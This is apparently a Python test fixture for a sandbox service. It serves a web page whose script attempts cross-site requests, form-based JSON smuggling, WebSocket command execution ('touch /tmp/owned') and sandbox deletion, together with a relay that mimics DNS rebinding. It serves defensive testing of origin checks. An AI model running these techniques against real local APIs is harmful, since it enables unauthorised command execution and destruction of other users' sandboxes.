"""A web page that tries to use a server it has no business with, and the places it is served from.

It tries every way a browser has to send a request, and notes which of them was served. What a page
may not read it cannot judge: the test looks at the server's log and listing too.
"""

from __future__ import annotations

import contextlib
import socket
import socketserver
import threading
from collections.abc import Iterator

__all__ = ["PAGE", "Relay", "page_server"]

PAGE = r"""<!doctype html><meta charset=utf-8><link rel=icon href=data:,>
<title>page</title><body><script>
const served = [], tried = []
let number = 0

function envelope(message) {
  const payload = new TextEncoder().encode(JSON.stringify(message))
  const framed = new Uint8Array(5 + payload.length)
  new DataView(framed.buffer).setUint32(1, payload.length)
  framed.set(payload, 5)
  return framed
}

const soon = promise =>
  Promise.race([promise, new Promise((_, fail) => setTimeout(fail, 4000))]).catch(() => {})

async function tryFetch(name, url, options) {
  tried.push(name)
  try {
    const answer = await fetch(url, options)
    if (answer.type === 'opaque' || answer.status >= 400) return
    // A Connect stream has the status 200 and says in its last message how it ended.
    const isStream = (answer.headers.get('Content-Type') || '').startsWith('application/connect')
    if (isStream && (await answer.text()).includes('"error"')) return
    served.push(`${name}: ${answer.status}`)
  } catch {}
}

function tryElement(name, tag, attribute, url) {
  tried.push(name)
  return soon(new Promise(resolve => {
    const element = document.createElement(tag)
    element.onload = () => resolve()
    element.onerror = () => resolve()
    if (tag === 'link') element.rel = 'stylesheet'
    element[attribute] = url
    document.body.append(element)
  }))
}

function tryForm(url, enctype, fields) {
  tried.push(`form ${enctype} ${url}`)
  return soon(new Promise(resolve => {
    const frame = document.createElement('iframe')
    frame.name = `frame-${++number}`
    document.body.append(frame)
    frame.onload = () => resolve()
    const form = document.createElement('form')
    Object.assign(form, {method: 'post', action: url, target: frame.name, enctype})
    for (const [key, value] of Object.entries(fields)) {
      const input = document.createElement('input')
      Object.assign(input, {type: 'hidden', name: key, value})
      form.append(input)
    }
    document.body.append(form)
    setTimeout(() => form.submit(), 0)
  }))
}

function tryWebSocket(url, subprotocol) {
  tried.push(`websocket ${url}`)
  return soon(new Promise(resolve => {
    const socket = new WebSocket(url, subprotocol ? [subprotocol] : [])
    socket.onopen = () => {
      served.push(`websocket ${url}`)
      socket.send(envelope({open: {command: 'touch /tmp/owned'}}))
      setTimeout(resolve, 500)
    }
    socket.onerror = () => resolve()
  }))
}

function tryEventSource(url) {
  tried.push(`events ${url}`)
  return soon(new Promise(resolve => {
    const events = new EventSource(url)
    events.onopen = () => { served.push(`events ${url}`); events.close(); resolve() }
    events.onerror = () => { events.close(); resolve() }
  }))
}

async function attack(api, victim) {
  const bodies = () => {
    const body = JSON.stringify({template: 'python', id: `owned-${++number}`})
    const form = new FormData()
    form.append('template', 'python')
    form.append('id', `owned-${number}`)
    return {
      'text': [body, {'Content-Type': 'text/plain'}],
      'form': [body, {'Content-Type': 'application/x-www-form-urlencoded'}],
      'parts': [form, {}],
      'json': [body, {'Content-Type': 'application/json'}],
      'blob': [new Blob([body]), {}],
      'bytes': [new TextEncoder().encode(body), {}],
    }
  }
  for (const mode of ['cors', 'no-cors', 'same-origin']) {
    for (const credentials of ['omit', 'include']) {
      const base = {mode, credentials}
      for (const path of ['/v1/sandboxes', '/v1/templates', `/v1/sandboxes/${victim}`,
                          `/v1/sandboxes/${victim}/expose/8000/`])
        await tryFetch(`GET ${mode} ${path}`, api + path, base)
      for (const [kind, [body, headers]] of Object.entries(bodies()))
        await tryFetch(`POST ${mode} ${kind}`, api + '/v1/fork',
                       {...base, method: 'POST', body, headers})
      await tryFetch(`POST ${mode} nothing`, `${api}/v1/sandboxes/${victim}/hibernate`,
                     {...base, method: 'POST'})
      await tryFetch(`DELETE ${mode}`, `${api}/v1/sandboxes/${victim}`, {...base, method: 'DELETE'})
      for (const type of ['text/plain', 'application/connect+json'])
        await tryFetch(`exec ${mode} ${type}`, api + '/sandbox.v1.Sandbox/ExecStream', {
          ...base, method: 'POST', body: envelope({command: 'touch /tmp/owned'}),
          headers: {'Content-Type': type, 'X-Sandbox-Id': victim},
        })
      await tryFetch(`mkdir ${mode}`, api + '/sandbox.v1.Sandbox/Mkdir', {
        ...base, method: 'POST', body: '{"path": "/tmp/owned"}',
        headers: {'Content-Type': 'application/json', 'X-Sandbox-Id': victim},
      })
    }
  }
  tried.push('beacon')
  navigator.sendBeacon(api + '/v1/fork', '{"template": "python", "id": "owned-beacon"}')
  const json = {['{"template":"python","id":"owned-form-' + (++number) + '","x":"']: '"}'}
  const enctypes = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']
  for (const enctype of enctypes) {
    await tryForm(api + '/v1/fork', enctype, json)
    await tryForm(`${api}/v1/sandboxes/${victim}/hibernate`, enctype, {})
    await tryForm(api + '/sandbox.v1.Sandbox/Mkdir', enctype, json)
  }
  const image = `${api}/v1/sandboxes/${victim}/expose/8000/`
  const elements = [['img', 'src'], ['script', 'src'], ['link', 'href'], ['iframe', 'src']]
  for (const [tag, attribute] of elements)
    for (const url of [api + '/v1/sandboxes', image])
      await tryElement(`${tag} ${url}`, tag, attribute, url)
  const ws = api.replace('http', 'ws')
  await tryWebSocket(`${ws}/sandbox.v1.Sandbox/Exec?sandbox=${victim}`, 'connect.sandbox.v1')
  await tryWebSocket(`${ws}/v1/pty?sandbox=${victim}`, 'mitos.pty.v1')
  await tryWebSocket(`${ws}/v1/sandboxes/${victim}/expose/8000/`)
  await tryEventSource(api + '/v1/sandboxes')
  await tryEventSource(`${api}/v1/sandboxes/${victim}`)
  return {served, tried: tried.length}
}
</script>
"""

_ANSWER = (
    b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: %d\r\n"
    b"Cache-Control: no-store\r\nConnection: close\r\n\r\n"
)


class Relay(socketserver.ThreadingTCPServer):
    """A port that serves the page, and after `rebind` is another server's.

    That is what a name does whose owner answers the next lookup with 127.0.0.1: to the browser, the
    page and the server behind the name are one origin.
    """

    daemon_threads = True
    allow_reuse_address = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Connection)
        self.port = int(self.server_address[1])
        self.target: int | None = None

    def rebind(self, port: int) -> None:
        """From the next request on, this is that port of this machine."""
        self.target = port


class _Connection(socketserver.BaseRequestHandler):
    server: Relay

    def handle(self) -> None:
        received = self.request.recv(65536)
        if self.server.target is not None:  # now: browsers connect long before they ask
            self._pass_on(self.server.target, received)
            return
        while received and b"\r\n\r\n" not in received:
            piece = self.request.recv(65536)
            received = received + piece if piece else b""
        if received:
            body = PAGE.encode()
            self.request.sendall(_ANSWER % len(body) + body)

    def _pass_on(self, port: int, received: bytes) -> None:
        with socket.create_connection(("127.0.0.1", port)) as target:
            target.sendall(received)
            back = threading.Thread(target=_pump, args=(target, self.request), daemon=True)
            back.start()
            _pump(self.request, target)
            back.join()


def _pump(source: socket.socket, sink: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while data := source.recv(65536):
            sink.sendall(data)
    with contextlib.suppress(OSError):
        sink.shutdown(socket.SHUT_WR)


@contextlib.contextmanager
def page_server() -> Iterator[Relay]:
    """Serves the page on a loopback port of its own."""
    with Relay() as relay:
        thread = threading.Thread(target=relay.serve_forever, daemon=True)
        thread.start()
        try:
            yield relay
        finally:
            relay.shutdown()
            thread.join()
